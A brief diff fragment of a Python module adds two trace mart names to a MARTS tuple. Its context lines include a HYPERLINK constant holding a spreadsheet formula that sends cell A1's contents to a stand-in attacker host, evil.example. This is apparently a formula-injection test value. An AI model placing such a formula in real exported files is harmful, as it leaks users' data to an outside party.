@@ -33,6 +33,8 @@ MARTS = (
     "fct_plan_gaps",
     "trace_cost_spikes",
     "trace_load_accounting",
+    "trace_plan_gaps",
+    "trace_roster_mismatches",
 )
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
